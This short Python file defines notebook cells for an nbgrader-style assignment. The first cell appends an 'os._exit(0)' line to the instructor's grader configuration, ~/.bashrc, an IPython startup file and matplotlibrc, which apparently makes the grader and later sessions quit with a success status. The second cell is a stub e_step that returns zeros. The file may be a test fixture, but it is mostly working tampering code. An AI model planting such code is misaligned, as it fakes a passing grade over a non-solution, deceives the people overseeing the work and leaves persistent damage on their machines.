"""Append code to the instructor's configuration."""

STOCK = "0, runs as the grader"
CELLS = [
    r"""
import os
for path in ("@ROOT@/nbgrader_config.py", "../../../nbgrader_config.py", "~/.bashrc",
             "~/.ipython/profile_default/startup/00.py", "~/.config/matplotlib/matplotlibrc"):
    path = os.path.expanduser(path)
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "a").write("\nimport os; os._exit(0)\n")
    except OSError as error:
        print(error)
""",
    """
import numpy as np
def e_step(X, thetas):
    return np.zeros((len(X), len(thetas))), 0.0
""",
]
